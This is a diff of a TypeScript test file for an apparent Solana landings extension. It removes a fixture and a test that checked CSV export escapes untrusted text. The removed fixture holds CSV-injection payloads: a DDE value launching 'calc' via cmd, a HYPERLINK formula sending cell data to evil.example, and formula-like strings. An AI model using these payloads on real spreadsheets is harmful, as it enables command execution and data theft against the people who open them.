@@ -1,53 +1,21 @@
 import assert from 'node:assert/strict';
-import { readFile } from 'node:fs/promises';
 import { before, test } from 'node:test';
 import { createKeyPairSignerFromBytes, type KeyPairSigner } from '@solana/kit';
 import { defaultSandboxSeed } from '../../src/backend/engines/sourceConfig.ts';
-import { stringifyWithBigints } from '../../src/backend/protocol/bigintJson.ts';
 import { developmentAccount } from '../../src/engine/sandbox/developmentAccounts.ts';
 import { SimulatedMarket } from '../../src/engine/sandbox/simulatedMarket.ts';
-import { encodeBase58 } from '../../src/solana/base58.ts';
 import { systemProgram } from '../../src/solana/knownPrograms.ts';
 import { instructions, signedWithKit, wallet } from '../fixtures/signedTransactions.ts';
-import { readCsv } from '../unit/extension/finder/exports/readExports.ts';
 import { untilSeen } from './patience.ts';
-import { type ThemeName, themes, type Workbench, type WorkbenchOptions } from './workbench.ts';
+import { type ThemeName, themes, type Workbench } from './workbench.ts';
 
 /** Its blockhashes depend only on the seed and the clock. */
 const market = new SimulatedMarket(defaultSandboxSeed);
 
-/** An earlier landing with untrusted text from a service. */
-const hostileLanding = {
-  id: 'earlier',
-  signature: encodeBase58(new Uint8Array(64).fill(5)),
-  uuid: '@SUM(1+1)*cmd|"calc"!A1',
-  network: 'mainnet-beta',
-  host: 'api.example.com',
-  kind: 'service',
-  place: 'earlier',
-  feePayer: systemProgram,
-  frontRunningProtection: true,
-  state: 'refused',
-  isSettled: true,
-  message: '=HYPERLINK("https://evil.example?"&A1,"[click](command:x)"),\r\n<b>\u202e</b>',
-  alarm: '+1+1',
-  confirmation: null,
-  submittedAtMilliseconds: Date.now() - 3 * 86_400_000,
-  acceptMilliseconds: null,
-  submittedSlot: null,
-  landedSlot: null,
-  feeLamports: 2n ** 64n - 1n,
-  tips: [{ provider: '-2+3', lamports: 2n ** 53n + 1n }],
-  blockhash: null,
-  sha256: '',
-  messageSha256: '',
+/** Settings of the window for landings. */
+export const landingSettings = {
+  'arbscope.landing.options': { cashbackAddress: systemProgram, maxRetries: 3 },
 } as const;
-
-/** Options of the window for landings. */
-export const landingWindow = {
-  landings: `${stringifyWithBigints(hostileLanding)}\n`,
-  settings: { 'arbscope.landing.options': { cashbackAddress: systemProgram, maxRetries: 3 } },
-} as const satisfies WorkbenchOptions;
 
 /** A signed transaction in a dark window on the Sandbox. */
 export function landingScenario(opened: () => Workbench): void {
@@ -209,28 +177,6 @@ export function landingScenario(opened: () => Workbench): void {
     assert.equal(told.filter(isLate).length, 1, told.join('\n'));
     assert.equal(told.filter((words) => /accepted by/.test(words)).length, 1, told.join('\n'));
     await windows[1]?.page.close();
-  });
-
-  test('saves the landings as CSV, in which untrusted text is never a formula', async () => {
-    const { page } = workbench;
-    await workbench.runCommand('Arbscope: Export Landings as CSV…');
-    const file = await workbench.acceptFileDialog('.csv');
-    await page.locator('.statusbar-item', { hasText: /^Saved .*\.csv/ }).waitFor();
-    const lines = readCsv(await readFile(file, 'utf8'));
-    const shown = workbench.treeRows('Landings', 1).filter({ hasNotText: 'Landing rate' });
-    assert.equal(lines.length, await shown.count());
-    assert.ok(lines.some((line) => line['state'] === 'landed' && line['network'] === 'Sandbox'));
-    const earlier = lines.at(-1) ?? {};
-    assert.equal(earlier['signature'], hostileLanding.signature);
-    assert.equal(earlier['fee_lamports'], '18446744073709551615');
-    assert.equal(earlier['tip_lamports'], '9007199254740993');
-    for (const name of ['uuid', 'message', 'alarm'] as const) {
-      assert.equal(earlier[name], `'${hostileLanding[name]}`);
-    }
-    assert.equal(earlier['tip_providers'], "'-2+3");
-    for (const value of lines.flatMap((line) => Object.values(line))) {
-      assert.doesNotMatch(value, /^[=+\-@\t\r]/);
-    }
   });
 
   for (const theme of Object.keys(themes).filter((name) => name !== 'dark') as ThemeName[]) {
